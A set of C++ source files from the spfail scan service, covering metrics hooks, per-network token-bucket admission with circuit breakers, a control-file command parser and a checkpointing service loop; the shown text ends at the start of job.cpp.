  MetricsLane(const MetricsLane&) = delete;
  MetricsLane& operator=(const MetricsLane&) = delete;

  // The registry the current thread's hooks write to, or nullptr.
  static Registry* current() noexcept;
  static bool active() noexcept { return current() != nullptr; }

 private:
  Registry* previous_;
};

// Enable the opt-in wall-clock lane process-wide (spfail_scan sets it from
// --metrics-wall before any workers spawn; worker threads must see it, so
// the flag is global, not per-thread). Wall families are tagged so
// exporters can keep them out of golden outputs.
class WallProfileScope {
 public:
  WallProfileScope();
  ~WallProfileScope();

  WallProfileScope(const WallProfileScope&) = delete;
  WallProfileScope& operator=(const WallProfileScope&) = delete;

  static bool enabled() noexcept;

 private:
  bool previous_;
};

// Hooks: no-ops without an active lane, so instrumented components cost one
// predicted branch when metrics are off.
void count(std::string_view name, std::initializer_list<Label> labels = {},
           std::uint64_t delta = 1);
void observe(std::string_view name, std::int64_t value,
             std::initializer_list<Label> labels = {});
void gauge_set(std::string_view name, std::int64_t value,
               std::initializer_list<Label> labels = {});

// Times a scope against the simulated clock: reads `now` at construction
// and again at destruction, observing the elapsed SimTime into `name`.
// Constructed inert when no lane is active (the clock is never read).
// When wall profiling is enabled it additionally records real elapsed
// nanoseconds into "<name>_wall_ns", a wall-tagged family.
class ScopedTimer {
 public:
  ScopedTimer(std::string_view name, std::function<util::SimTime()> now,
              std::initializer_list<Label> labels = {});
  ~ScopedTimer();

  ScopedTimer(const ScopedTimer&) = delete;
  ScopedTimer& operator=(const ScopedTimer&) = delete;

 private:
  Registry* registry_;  // captured at construction; nullptr => inert
  std::string name_;
  std::string labels_;
  std::function<util::SimTime()> now_;
  util::SimTime start_ = 0;
  bool wall_ = false;
  std::chrono::steady_clock::time_point wall_start_{};
};

}  // namespace spfail::obs
