#include "svc/admission.hpp"

#include <algorithm>

#include "session/scan_config.hpp"

namespace spfail::svc {

void AdmissionConfig::validate() const {
  const auto fail = [](const std::string& what) {
    throw session::ScanConfigError("admission config: " + what);
  };
  if (bucket_capacity < 1) fail("bucket capacity must be at least 1");
  if (bucket_refill < 0) fail("bucket refill must be non-negative");
  if (breaker_threshold < 1) fail("breaker threshold must be at least 1");
  if (breaker_cooldown < 1) fail("breaker cooldown must be at least 1");
  if (defer_budget < 0) fail("defer budget must be non-negative");
}

std::string to_string(Decision decision) {
  switch (decision) {
    case Decision::Admit: return "admit";
    case Decision::Defer: return "defer";
    case Decision::ForceRun: return "force-run";
  }
  return "unknown";
}

AdmissionController::AdmissionController(AdmissionConfig config)
    : config_(config) {
  config_.validate();
}

NetworkState& AdmissionController::state_for(std::uint64_t net) {
  const auto it = networks_.find(net);
  if (it != networks_.end()) return it->second;
  NetworkState fresh;
  fresh.tokens = config_.bucket_capacity;
  return networks_.emplace(net, fresh).first->second;
}

void AdmissionController::refill() {
  for (auto& [net, state] : networks_) {
    state.tokens =
        std::min(config_.bucket_capacity, state.tokens + config_.bucket_refill);
    if (state.cooldown_left > 0 && --state.cooldown_left == 0) {
      state.consecutive_deferrals = 0;
    }
  }
}

Decision AdmissionController::decide(std::span<const std::uint64_t> networks,
                                     int& defer_budget_left) {
  // First pass: would anything block? Collect the blockers so a deferral
  // penalises exactly the networks that caused it.
  bool blocked = false;
  for (const std::uint64_t net : networks) {
    const NetworkState& state = state_for(net);
    if (state.cooldown_left > 0 || state.tokens < 1) blocked = true;
  }

  if (!blocked) {
    for (const std::uint64_t net : networks) {
      NetworkState& state = state_for(net);
      --state.tokens;
      state.consecutive_deferrals = 0;
    }
    return Decision::Admit;
  }

  if (defer_budget_left <= 0) {
    // Budget exhausted: run anyway, without charging — the queue-level
    // equivalent of a retry schedule concluding after its last attempt.
    return Decision::ForceRun;
  }

  --defer_budget_left;
  for (const std::uint64_t net : networks) {
    NetworkState& state = state_for(net);
    if (state.cooldown_left > 0) continue;  // already open; streak frozen
    if (state.tokens < 1) {
      if (++state.consecutive_deferrals >= config_.breaker_threshold) {
        state.cooldown_left = config_.breaker_cooldown;
        ++breaker_trips_;
      }
    }
  }
  return Decision::Defer;
}

std::vector<std::uint64_t> AdmissionController::open_breakers() const {
  std::vector<std::uint64_t> open;
  for (const auto& [net, state] : networks_) {
    if (state.cooldown_left > 0) open.push_back(net);
  }
  return open;
}

void AdmissionController::encode(snapshot::Writer& w) const {
  w.i64(config_.bucket_capacity);
  w.i64(config_.bucket_refill);
  w.i64(config_.breaker_threshold);
  w.i64(config_.breaker_cooldown);
  w.i64(config_.defer_budget);
  w.u64(breaker_trips_);
  w.u32(static_cast<std::uint32_t>(networks_.size()));
  for (const auto& [net, state] : networks_) {
    w.u64(net);
    w.i64(state.tokens);
    w.i64(state.consecutive_deferrals);
    w.i64(state.cooldown_left);
  }
}

AdmissionController AdmissionController::decode(snapshot::Reader& r) {
  AdmissionConfig config;
  config.bucket_capacity = static_cast<int>(r.i64());
  config.bucket_refill = static_cast<int>(r.i64());
  config.breaker_threshold = static_cast<int>(r.i64());
  config.breaker_cooldown = static_cast<int>(r.i64());
  config.defer_budget = static_cast<int>(r.i64());
  AdmissionController controller(config);
  controller.breaker_trips_ = r.u64();
  const std::uint32_t count = r.u32();
  std::uint64_t last_net = 0;
  for (std::uint32_t i = 0; i < count; ++i) {
    const std::uint64_t net = r.u64();
    if (i > 0 && net <= last_net) {
      throw snapshot::SnapshotError("admission networks out of order");
    }
    last_net = net;
    NetworkState state;
    state.tokens = static_cast<int>(r.i64());
    state.consecutive_deferrals = static_cast<int>(r.i64());
    state.cooldown_left = static_cast<int>(r.i64());
    if (state.tokens < 0 || state.tokens > config.bucket_capacity ||
        state.consecutive_deferrals < 0 || state.cooldown_left < 0 ||
        state.cooldown_left > config.breaker_cooldown) {
      throw snapshot::SnapshotError("admission network state out of range");
    }
    controller.networks_.emplace(net, state);
  }
  return controller;
}

}  // namespace spfail::svc
