// The scriptable control front end of the scan service (DESIGN.md §18).
//
// The service owns no socket: operators (and the smoke tests) drive it by
// appending lines to a control file the ServiceLoop re-reads every tick.
// The grammar is deliberately tiny and line-oriented:
//
//   submit <id> [key value]...   queue a job (keys mirror the scan flags:
//                                scale, seed, study-seed, threads, scenario,
//                                scenario-rounds, fault-rate, fault-seed,
//                                priority, recur, runs, nets)
//   status                       write <dir>/status.txt atomically
//   drain                        finish queued/running jobs, then exit
//   at <tick> <command...>       defer a command until the given tick
//
// '#' starts a comment; blank lines are ignored. Values parse with the same
// strict full-string parsers as the flag registry — a typo is a hard
// ControlError naming the line, never a silently-zero job.
//
// Consumption is positional and strictly in file order: the service state
// records how many commands it has consumed, so a restart re-parses the
// file and skips exactly the consumed prefix — appending while the service
// is down is safe, rewriting history is detected as a count mismatch. An
// `at`-deferred command blocks the commands behind it until its tick, which
// keeps "submit a, at 30 submit b, submit c" meaning what it reads as.
#pragma once

#include <cstdint>
#include <stdexcept>
#include <string>
#include <string_view>
#include <vector>

#include "svc/job.hpp"

namespace spfail::svc {

// Malformed control input. The message carries the 1-based line number.
class ControlError : public std::runtime_error {
 public:
  explicit ControlError(const std::string& what)
      : std::runtime_error("control: " + what) {}
};

struct Command {
  enum class Kind : std::uint8_t { Submit = 1, Status = 2, Drain = 3 };
  Kind kind = Kind::Status;
  std::uint64_t at_tick = 0;  // earliest service tick this may take effect
  JobSpec spec;               // Submit only
};

std::string to_string(Command::Kind kind);

// Parse a whole control file's text. Throws ControlError on any malformed
// line (the service treats that as fatal: a half-understood script must not
// half-run).
std::vector<Command> parse_control_text(std::string_view text);

// Read + parse `path`. A missing file is an empty script, not an error —
// the operator simply has not written commands yet.
std::vector<Command> read_control_file(const std::string& path);

}  // namespace spfail::svc
