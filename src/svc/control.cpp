#include "svc/control.hpp"

#include <fstream>
#include <sstream>

#include "session/flag_parse.hpp"

namespace spfail::svc {

namespace {

// Split one line into whitespace-separated tokens.
std::vector<std::string> tokenize(std::string_view line) {
  std::vector<std::string> tokens;
  std::string current;
  for (const char c : line) {
    if (c == ' ' || c == '\t' || c == '\r') {
      if (!current.empty()) tokens.push_back(std::move(current));
      current.clear();
    } else {
      current.push_back(c);
    }
  }
  if (!current.empty()) tokens.push_back(std::move(current));
  return tokens;
}

[[noreturn]] void fail(std::size_t line_no, const std::string& what) {
  throw ControlError("line " + std::to_string(line_no) + ": " + what);
}

std::vector<std::uint64_t> parse_nets(std::size_t line_no,
                                      const std::string& text) {
  std::vector<std::uint64_t> nets;
  std::string item;
  std::istringstream in(text);
  while (std::getline(in, item, ',')) {
    if (item.empty()) fail(line_no, "nets: empty element in '" + text + "'");
    nets.push_back(session::parse_u64("nets", item.c_str()));
  }
  if (nets.empty()) fail(line_no, "nets: expected a comma-separated list");
  return nets;
}

JobSpec parse_submit(std::size_t line_no,
                     const std::vector<std::string>& tokens,
                     std::size_t start) {
  if (start >= tokens.size()) fail(line_no, "submit: missing job id");
  JobSpec spec;
  spec.id = tokens[start];
  for (std::size_t i = start + 1; i < tokens.size(); i += 2) {
    const std::string& key = tokens[i];
    if (i + 1 >= tokens.size()) {
      fail(line_no, "submit: missing value for key '" + key + "'");
    }
    const char* value = tokens[i + 1].c_str();
    if (key == "scale") {
      spec.scale = session::parse_double(key, value);
    } else if (key == "seed") {
      spec.seed = session::parse_u64(key, value);
    } else if (key == "study-seed") {
      spec.study_seed = session::parse_u64(key, value);
    } else if (key == "threads") {
      spec.threads = session::parse_int(key, value);
    } else if (key == "scenario") {
      spec.scenario = value;
    } else if (key == "scenario-rounds") {
      spec.scenario_rounds = session::parse_int(key, value);
    } else if (key == "fault-rate") {
      spec.fault_rate = session::parse_double(key, value);
    } else if (key == "fault-seed") {
      spec.fault_seed = session::parse_u64(key, value);
    } else if (key == "priority") {
      spec.priority = session::parse_int(key, value);
    } else if (key == "recur") {
      spec.recur = session::parse_u64(key, value);
    } else if (key == "runs") {
      spec.runs = static_cast<std::uint32_t>(
          session::parse_u64(key, value));
    } else if (key == "nets") {
      spec.nets = parse_nets(line_no, tokens[i + 1]);
    } else {
      fail(line_no, "submit: unknown key '" + key + "'");
    }
  }
  try {
    spec.validate();
  } catch (const session::ScanConfigError& error) {
    fail(line_no, error.what());
  }
  return spec;
}

}  // namespace

std::string to_string(Command::Kind kind) {
  switch (kind) {
    case Command::Kind::Submit: return "submit";
    case Command::Kind::Status: return "status";
    case Command::Kind::Drain: return "drain";
  }
  return "unknown";
}

std::vector<Command> parse_control_text(std::string_view text) {
  std::vector<Command> commands;
  std::size_t line_no = 0;
  std::size_t pos = 0;
  while (pos <= text.size()) {
    const std::size_t end = text.find('\n', pos);
    std::string_view line = text.substr(
        pos, end == std::string_view::npos ? std::string_view::npos
                                           : end - pos);
    ++line_no;
    pos = end == std::string_view::npos ? text.size() + 1 : end + 1;

    if (const std::size_t hash = line.find('#');
        hash != std::string_view::npos) {
      line = line.substr(0, hash);
    }
    const std::vector<std::string> tokens = tokenize(line);
    if (tokens.empty()) continue;

    Command command;
    try {
      std::size_t verb = 0;
      if (tokens[0] == "at") {
        if (tokens.size() < 3) {
          fail(line_no, "at: expected 'at TICK COMMAND'");
        }
        command.at_tick = session::parse_u64("at", tokens[1].c_str());
        verb = 2;
      }
      const std::string& name = tokens[verb];
      if (name == "submit") {
        command.kind = Command::Kind::Submit;
        command.spec = parse_submit(line_no, tokens, verb + 1);
      } else if (name == "status") {
        command.kind = Command::Kind::Status;
        if (tokens.size() > verb + 1) {
          fail(line_no, "status takes no arguments");
        }
      } else if (name == "drain") {
        command.kind = Command::Kind::Drain;
        if (tokens.size() > verb + 1) {
          fail(line_no, "drain takes no arguments");
        }
      } else {
        fail(line_no, "unknown command '" + name + "'");
      }
    } catch (const session::ScanConfigError& error) {
      // The strict value parsers throw the flag-surface error; re-raise it
      // with the control file's line number attached.
      fail(line_no, error.what());
    }
    commands.push_back(std::move(command));
  }
  return commands;
}

std::vector<Command> read_control_file(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) return {};
  std::ostringstream buffer;
  buffer << in.rdbuf();
  return parse_control_text(buffer.str());
}

}  // namespace spfail::svc
