#include "svc/service.hpp"

#include <algorithm>
#include <filesystem>
#include <ostream>
#include <sstream>
#include <utility>

#include "obs/export.hpp"
#include "session/flag_parse.hpp"
#include "snapshot/fields.hpp"
#include "snapshot/snapshot.hpp"

namespace spfail::svc {

namespace {

using session::parse_int;
using session::parse_u64;

// Thrown by the kill hook, caught by run(): the loop stops with no further
// side effects, exactly as a SIGKILL at that syscall boundary would.
struct KilledSignal {};

constexpr char kMagic[8] = {'S', 'P', 'F', 'S', 'V', 'C', '0', '1'};
constexpr std::uint16_t kVersion = 1;

constexpr SvcFlagDef kSvcFlags[] = {
    {"--dir", "SPFAIL_SVC_DIR", "DIR", "svc-state",
     "state directory: svc_state, per-job checkpoints, reports, events.log",
     [](SvcConfig& c, std::string_view, const char* text) { c.dir = text; }},
    {"--control", "SPFAIL_SVC_CONTROL", "PATH", "(none)",
     "control file re-read every tick (submit/status/drain commands)",
     [](SvcConfig& c, std::string_view, const char* text) {
       c.control = text;
     }},
    {"--max-active-jobs", "SPFAIL_SVC_MAX_ACTIVE", "N", "2",
     "concurrent scan jobs; the rest queue FIFO within priority",
     [](SvcConfig& c, std::string_view what, const char* text) {
       c.max_active_jobs = parse_int(what, text);
     }},
    {"--rounds-per-tick", "SPFAIL_SVC_ROUNDS_PER_TICK", "N", "4",
     "longitudinal rounds one running job advances per service tick",
     [](SvcConfig& c, std::string_view what, const char* text) {
       c.rounds_per_tick = parse_int(what, text);
     }},
    {"--bucket-capacity", "SPFAIL_SVC_BUCKET_CAPACITY", "N", "4",
     "admission token-bucket capacity per target /24 network",
     [](SvcConfig& c, std::string_view what, const char* text) {
       c.admission.bucket_capacity = parse_int(what, text);
     }},
    {"--bucket-refill", "SPFAIL_SVC_BUCKET_REFILL", "N", "1",
     "tokens refilled per tick per network",
     [](SvcConfig& c, std::string_view what, const char* text) {
       c.admission.bucket_refill = parse_int(what, text);
     }},
    {"--breaker-threshold", "SPFAIL_SVC_BREAKER_THRESHOLD", "N", "3",
     "consecutive deferrals that open a network's breaker",
     [](SvcConfig& c, std::string_view what, const char* text) {
       c.admission.breaker_threshold = parse_int(what, text);
     }},
    {"--breaker-cooldown", "SPFAIL_SVC_BREAKER_COOLDOWN", "N", "2",
     "ticks an opened breaker refuses the network's jobs",
     [](SvcConfig& c, std::string_view what, const char* text) {
       c.admission.breaker_cooldown = parse_int(what, text);
     }},
    {"--defer-budget", "SPFAIL_SVC_DEFER_BUDGET", "N", "16",
     "deferrals one job absorbs before it force-runs instead of starving",
     [](SvcConfig& c, std::string_view what, const char* text) {
       c.admission.defer_budget = parse_int(what, text);
     }},
    {"--max-ticks", "SPFAIL_SVC_MAX_TICKS", "N", "0 (until drained)",
     "hard tick budget; the service exits MaxTicks when it runs out",
     [](SvcConfig& c, std::string_view what, const char* text) {
       c.max_ticks = parse_u64(what, text);
     }},
    {"--metrics", "SPFAIL_SVC_METRICS", "PATH", "(off)",
     "per-tick JSONL metric snapshots to PATH, Prometheus text to PATH.prom",
     [](SvcConfig& c, std::string_view, const char* text) {
       c.metrics_path = text;
     }},
};

}  // namespace

void SvcConfig::validate() const {
  const auto fail = [](const std::string& what) {
    throw session::ScanConfigError("svc config: " + what);
  };
  if (dir.empty()) fail("--dir must not be empty");
  if (max_active_jobs < 1) fail("--max-active-jobs must be at least 1");
  if (rounds_per_tick < 1) fail("--rounds-per-tick must be at least 1");
  admission.validate();
}

std::span<const SvcFlagDef> svc_flag_registry() { return kSvcFlags; }

SvcConfig svc_config_from_args(int argc, const char* const* argv) {
  SvcConfig config;
  session::apply_env_rows(svc_flag_registry(), config);
  session::apply_arg_rows(svc_flag_registry(), argc, argv, config);
  config.validate();
  return config;
}

std::string svc_flag_table_markdown() {
  return session::flag_table_markdown_for(svc_flag_registry());
}

std::string to_string(ServiceLoop::Status status) {
  switch (status) {
    case ServiceLoop::Status::Drained: return "drained";
    case ServiceLoop::Status::MaxTicks: return "max-ticks";
    case ServiceLoop::Status::Killed: return "killed";
  }
  return "unknown";
}

ServiceLoop::ServiceLoop(SvcConfig config, ServiceOptions options)
    : config_(std::move(config)),
      options_(options),
      admission_(config_.admission) {
  config_.validate();
}

ServiceLoop::~ServiceLoop() = default;

std::string ServiceLoop::state_path() const {
  return config_.dir + "/svc_state";
}

std::string ServiceLoop::ckpt_path(const JobRecord& rec) const {
  std::string path = config_.dir + "/" + rec.spec.id;
  if (rec.run > 1) path += ".run" + std::to_string(rec.run);
  return path + ".ckpt";
}

std::string ServiceLoop::report_path(const JobRecord& rec) const {
  std::string path = config_.dir + "/" + rec.spec.id;
  if (rec.run > 1) path += ".run" + std::to_string(rec.run);
  return path + ".report";
}

std::optional<JobPhase> ServiceLoop::job_phase(std::string_view id) const {
  for (const JobRecord& rec : jobs_) {
    if (rec.spec.id == id) return rec.phase;
  }
  return std::nullopt;
}

void ServiceLoop::event(std::string line) {
  std::string full = "tick " + std::to_string(tick_) + ": " + std::move(line);
  if (options_.log != nullptr) *options_.log << full << "\n";
  events_.push_back(std::move(full));
}

void ServiceLoop::maybe_kill(KillPoint point) {
  if (options_.kill_at.has_value() && options_.kill_at->tick == tick_ &&
      options_.kill_at->point == point) {
    throw KilledSignal{};
  }
}

std::size_t ServiceLoop::active_jobs() const {
  std::size_t active = 0;
  for (const JobRecord& rec : jobs_) {
    if (rec.phase == JobPhase::Admitted || rec.phase == JobPhase::Running ||
        rec.phase == JobPhase::Checkpointed) {
      ++active;
    }
  }
  return active;
}

bool ServiceLoop::all_done() const {
  for (const JobRecord& rec : jobs_) {
    if (rec.phase != JobPhase::Done) return false;
  }
  return true;
}

void ServiceLoop::submit(JobSpec spec) {
  for (const JobRecord& rec : jobs_) {
    if (rec.spec.id == spec.id) {
      throw ControlError("duplicate job id '" + spec.id + "'");
    }
  }
  JobRecord rec;
  rec.nets = target_networks(spec);
  rec.spec = std::move(spec);
  rec.seq = seq_counter_++;
  rec.phase = JobPhase::Queued;
  rec.submit_tick = tick_;
  rec.defer_budget_left = config_.admission.defer_budget;
  ++registry_.counter("svc_jobs_submitted_total");
  event("queued job=" + rec.spec.id + " priority=" +
        std::to_string(rec.spec.priority) + " nets=" +
        std::to_string(rec.nets.size()));
  jobs_.push_back(std::move(rec));
}

void ServiceLoop::consume_commands() {
  if (config_.control.empty()) return;
  const std::vector<Command> commands = read_control_file(config_.control);
  if (commands.size() < commands_consumed_) {
    throw ControlError("control file shrank below the consumed prefix (" +
                       std::to_string(commands.size()) + " < " +
                       std::to_string(commands_consumed_) + " commands)");
  }
  for (std::size_t i = commands_consumed_; i < commands.size(); ++i) {
    const Command& command = commands[i];
    // Positional consumption: a not-yet-due `at` command blocks everything
    // behind it, and nothing is consumed past a drain.
    if (command.at_tick > tick_ || drain_) break;
    ++commands_consumed_;
    ++registry_.counter("svc_commands_total",
                        {{"verb", to_string(command.kind)}});
    switch (command.kind) {
      case Command::Kind::Submit:
        submit(command.spec);
        break;
      case Command::Kind::Status:
        write_status_file();
        event("status written");
        break;
      case Command::Kind::Drain:
        drain_ = true;
        event("drain requested");
        // Recurrences stop: parked runs are cancelled, not started.
        for (JobRecord& rec : jobs_) {
          if (rec.phase == JobPhase::Waiting) {
            rec.phase = JobPhase::Done;
            event("drained job=" + rec.spec.id + " recurrence-cancelled");
          }
        }
        break;
    }
  }
}

void ServiceLoop::admission_pass() {
  // Wake recurring jobs whose interval elapsed; they re-enter the queue.
  for (JobRecord& rec : jobs_) {
    if (rec.phase == JobPhase::Waiting && rec.next_run_tick <= tick_) {
      rec.phase = JobPhase::Queued;
      rec.submit_tick = tick_;
      event("queued job=" + rec.spec.id + " run=" + std::to_string(rec.run));
    }
  }

  // FIFO within priority: higher priority first, submit order breaks ties.
  std::vector<JobRecord*> queued;
  for (JobRecord& rec : jobs_) {
    if (rec.phase == JobPhase::Queued) queued.push_back(&rec);
  }
  std::sort(queued.begin(), queued.end(),
            [](const JobRecord* a, const JobRecord* b) {
              if (a->spec.priority != b->spec.priority) {
                return a->spec.priority > b->spec.priority;
              }
              return a->seq < b->seq;
            });

  for (JobRecord* rec : queued) {
    if (active_jobs() >= static_cast<std::size_t>(config_.max_active_jobs)) {
      break;  // backpressure: everyone else stays queued
    }
    const Decision decision =
        admission_.decide(rec->nets, rec->defer_budget_left);
    switch (decision) {
      case Decision::Admit:
      case Decision::ForceRun: {
        rec->phase = JobPhase::Admitted;
        rec->admit_tick = tick_;
        const std::int64_t wait =
            static_cast<std::int64_t>(tick_ - rec->submit_tick);
        registry_.histogram("svc_admission_wait_ticks").observe(wait);
        if (decision == Decision::ForceRun) {
          ++rec->force_runs;
          ++registry_.counter("svc_force_runs_total");
          event("force-run job=" + rec->spec.id + " wait=" +
                std::to_string(wait));
        } else {
          event("admitted job=" + rec->spec.id + " wait=" +
                std::to_string(wait));
        }
        break;
      }
      case Decision::Defer:
        ++rec->deferrals;
        ++registry_.counter("svc_deferrals_total");
        event("deferred job=" + rec->spec.id + " budget-left=" +
              std::to_string(rec->defer_budget_left));
        break;
    }
  }
}

void ServiceLoop::run_pass() {
  for (JobRecord& rec : jobs_) {
    if (rec.phase != JobPhase::Admitted && rec.phase != JobPhase::Running &&
        rec.phase != JobPhase::Checkpointed) {
      continue;
    }
    if (!rec.job) {
      rec.job = std::make_unique<Job>(rec.spec, ckpt_path(rec));
      rec.job->open();
    }
    if (rec.phase == JobPhase::Admitted) {
      event("running job=" + rec.spec.id + " run=" + std::to_string(rec.run));
    }
    rec.phase = JobPhase::Running;

    const std::size_t total = rec.job->total_rounds();
    const std::size_t target = std::min(
        total, static_cast<std::size_t>(rec.rounds_done) +
                   static_cast<std::size_t>(config_.rounds_per_tick));
    // Skip-ahead: after a torn tick the job's own checkpoint may already be
    // at `target`; ensure_rounds then re-executes nothing and the schedule
    // below replays the original events/metrics exactly.
    rec.job->ensure_rounds(target);
    registry_.counter("svc_rounds_total") += target - rec.rounds_done;
    rec.rounds_done = target;

    if (target < total) {
      rec.job->checkpoint();
      rec.phase = JobPhase::Checkpointed;
      event("checkpointed job=" + rec.spec.id + " rounds=" +
            std::to_string(target) + "/" + std::to_string(total));
      maybe_kill(KillPoint::AfterJobCheckpoint);
    } else {
      const std::string report = rec.job->finish_report();
      snapshot::save_atomically(report_path(rec), report);
      rec.job.reset();
      ++registry_.counter("svc_jobs_completed_total");
      event("done job=" + rec.spec.id + " run=" + std::to_string(rec.run) +
            " rounds=" + std::to_string(total));
      maybe_kill(KillPoint::AfterReportWrite);
      if (!drain_ && rec.run < rec.spec.runs) {
        rec.run += 1;
        rec.rounds_done = 0;
        rec.next_run_tick = tick_ + rec.spec.recur;
        rec.defer_budget_left = config_.admission.defer_budget;
        rec.phase = JobPhase::Waiting;
        event("waiting job=" + rec.spec.id + " next-run-tick=" +
              std::to_string(rec.next_run_tick));
      } else {
        rec.phase = JobPhase::Done;
      }
    }
  }
}

void ServiceLoop::update_gauges() {
  std::int64_t queued = 0, waiting = 0, done = 0;
  for (const JobRecord& rec : jobs_) {
    if (rec.phase == JobPhase::Queued) ++queued;
    if (rec.phase == JobPhase::Waiting) ++waiting;
    if (rec.phase == JobPhase::Done) ++done;
  }
  registry_.gauge("svc_active_jobs") =
      static_cast<std::int64_t>(active_jobs());
  registry_.gauge("svc_queued_jobs") = queued;
  registry_.gauge("svc_waiting_jobs") = waiting;
  registry_.gauge("svc_done_jobs") = done;
  registry_.gauge("svc_open_breakers") =
      static_cast<std::int64_t>(admission_.open_breakers().size());
  registry_.counter("svc_breaker_trips_total") = admission_.breaker_trips();
  for (const JobRecord& rec : jobs_) {
    registry_.gauge("svc_job_phase", {{"job", rec.spec.id}}) =
        static_cast<std::int64_t>(rec.phase);
    registry_.gauge("svc_job_rounds", {{"job", rec.spec.id}}) =
        static_cast<std::int64_t>(rec.rounds_done);
    registry_.gauge("svc_job_run", {{"job", rec.spec.id}}) =
        static_cast<std::int64_t>(rec.run);
  }
}

void ServiceLoop::save_state() const {
  snapshot::Writer payload;
  // The state file records *completed* ticks: the tick being executed when
  // this save runs is complete once the file hits the disk, so a restart
  // resumes at tick_ + 1.
  payload.u64(tick_ + 1);
  payload.u64(seq_counter_);
  payload.u64(commands_consumed_);
  payload.boolean(drain_);
  payload.u32(static_cast<std::uint32_t>(jobs_.size()));
  for (const JobRecord& rec : jobs_) {
    rec.spec.encode(payload);
    payload.u64(rec.seq);
    payload.u8(static_cast<std::uint8_t>(rec.phase));
    payload.u32(rec.run);
    payload.u64(rec.rounds_done);
    payload.u64(rec.submit_tick);
    payload.u64(rec.admit_tick);
    payload.u64(rec.next_run_tick);
    payload.i64(rec.defer_budget_left);
    payload.u64(rec.deferrals);
    payload.u64(rec.force_runs);
  }
  admission_.encode(payload);
  registry_.encode(payload);
  payload.u32(static_cast<std::uint32_t>(metric_lines_.size()));
  for (const std::string& line : metric_lines_) payload.str(line);
  payload.u32(static_cast<std::uint32_t>(events_.size()));
  for (const std::string& line : events_) payload.str(line);

  std::string file(kMagic, sizeof(kMagic));
  snapshot::Writer head;
  head.u16(kVersion);
  file += head.bytes();
  file += payload.bytes();
  snapshot::Writer tail;
  tail.u64(snapshot::payload_checksum(payload.bytes()));
  file += tail.bytes();
  snapshot::save_atomically(state_path(), file);
}

void ServiceLoop::restore_state() {
  snapshot::discard_partial(state_path());
  if (!std::filesystem::exists(state_path())) return;  // a fresh service
  const std::string bytes = snapshot::load_file(state_path());
  constexpr std::size_t kOverhead = sizeof(kMagic) + 2 + 8;
  if (bytes.size() < kOverhead) {
    throw snapshot::SnapshotError("svc state truncated");
  }
  for (std::size_t i = 0; i < sizeof(kMagic); ++i) {
    if (bytes[i] != kMagic[i]) {
      throw snapshot::SnapshotError("bad magic (not an spfail svc state)");
    }
  }
  snapshot::Reader head(
      std::string_view(bytes).substr(sizeof(kMagic), 2));
  if (head.u16() != kVersion) {
    throw snapshot::SnapshotError("unsupported svc state version");
  }
  const std::string_view payload_bytes =
      std::string_view(bytes).substr(sizeof(kMagic) + 2,
                                     bytes.size() - kOverhead);
  snapshot::Reader tail(std::string_view(bytes).substr(bytes.size() - 8));
  if (tail.u64() != snapshot::payload_checksum(payload_bytes)) {
    throw snapshot::SnapshotError("svc state checksum mismatch");
  }

  snapshot::Reader r(payload_bytes);
  tick_ = r.u64();
  seq_counter_ = r.u64();
  commands_consumed_ = r.u64();
  drain_ = r.boolean();
  const std::uint32_t job_count = r.u32();
  jobs_.clear();
  jobs_.reserve(job_count);
  for (std::uint32_t i = 0; i < job_count; ++i) {
    JobRecord rec;
    rec.spec = JobSpec::decode(r);
    rec.nets = target_networks(rec.spec);
    rec.seq = r.u64();
    const std::uint8_t phase = r.u8();
    if (phase < static_cast<std::uint8_t>(JobPhase::Queued) ||
        phase > static_cast<std::uint8_t>(JobPhase::Done)) {
      throw snapshot::SnapshotError("svc state: bad job phase");
    }
    rec.phase = static_cast<JobPhase>(phase);
    rec.run = r.u32();
    rec.rounds_done = r.u64();
    rec.submit_tick = r.u64();
    rec.admit_tick = r.u64();
    rec.next_run_tick = r.u64();
    rec.defer_budget_left = static_cast<int>(r.i64());
    rec.deferrals = r.u64();
    rec.force_runs = r.u64();
    jobs_.push_back(std::move(rec));
  }
  admission_ = AdmissionController::decode(r);
  registry_ = obs::Registry::decode(r);
  metric_lines_.clear();
  const std::uint32_t line_count = r.u32();
  for (std::uint32_t i = 0; i < line_count; ++i) {
    metric_lines_.push_back(r.str());
  }
  events_.clear();
  const std::uint32_t event_count = r.u32();
  for (std::uint32_t i = 0; i < event_count; ++i) {
    events_.push_back(r.str());
  }
  r.expect_done();
}

void ServiceLoop::write_event_log() const {
  std::string text;
  for (const std::string& line : events_) {
    text += line;
    text += '\n';
  }
  snapshot::save_atomically(config_.dir + "/events.log", text);
}

void ServiceLoop::write_metrics_files() const {
  std::string jsonl;
  for (const std::string& line : metric_lines_) {
    jsonl += line;
    jsonl += '\n';
  }
  snapshot::save_atomically(config_.metrics_path, jsonl);
  std::ostringstream prom;
  obs::write_prometheus(registry_, prom);
  snapshot::save_atomically(config_.metrics_path + ".prom", prom.str());
}

void ServiceLoop::write_status_file() const {
  std::ostringstream out;
  out << "tick " << tick_ << (drain_ ? " draining" : "") << "\n";
  for (const JobRecord& rec : jobs_) {
    out << "job " << rec.spec.id << " phase " << to_string(rec.phase)
        << " run " << rec.run << " rounds " << rec.rounds_done
        << " deferrals " << rec.deferrals << "\n";
  }
  snapshot::save_atomically(config_.dir + "/status.txt", out.str());
}

ServiceLoop::Status ServiceLoop::run() {
  std::filesystem::create_directories(config_.dir);
  restore_state();
  try {
    while (true) {
      if (all_done() && (drain_ || config_.control.empty())) {
        // A restart can land here with the state file ahead of the output
        // files (killed between the two writes): rewrite them so the exit
        // state is complete regardless of where the previous process died.
        write_event_log();
        if (config_.metrics()) write_metrics_files();
        return Status::Drained;
      }
      if (config_.max_ticks > 0 && tick_ >= config_.max_ticks) {
        write_event_log();
        if (config_.metrics()) write_metrics_files();
        return Status::MaxTicks;
      }
      consume_commands();
      admission_.refill();
      admission_pass();
      maybe_kill(KillPoint::AfterAdmission);
      run_pass();
      ++registry_.counter("svc_ticks_total");
      update_gauges();
      if (config_.metrics()) {
        metric_lines_.push_back(obs::round_snapshot_json(
            registry_, "tick", static_cast<int>(tick_)));
      }
      save_state();
      maybe_kill(KillPoint::AfterStateSave);
      write_event_log();
      if (config_.metrics()) write_metrics_files();
      ++tick_;
    }
  } catch (const KilledSignal&) {
    return Status::Killed;
  }
}

}  // namespace spfail::svc
