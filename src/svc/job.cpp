#include "svc/job.hpp"

#include <algorithm>
#include <fstream>
#include <sstream>
#include <utility>

#include "scenario/runner.hpp"
#include "scenario/scenario.hpp"
#include "snapshot/snapshot.hpp"
#include "util/rng.hpp"

namespace spfail::svc {

